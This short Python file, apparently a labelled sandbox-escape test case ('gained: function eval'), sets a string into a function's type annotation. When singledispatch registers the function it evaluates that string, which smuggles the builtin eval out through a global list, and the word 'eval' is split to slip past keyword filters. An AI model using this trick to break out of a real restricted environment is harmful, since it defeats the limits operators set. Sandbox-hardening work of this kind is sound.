# gained: function eval
from functools import singledispatch
from typing import Any


def target(x: int) -> Any:
    return None


def attack(path: str) -> Any:
    table = target.__annotations__
    table["x"] = "SINK.append(ev" + "al) or int"
    singledispatch(lambda x: None).register(target)
    return SINK[0]


SINK: list[Any] = []
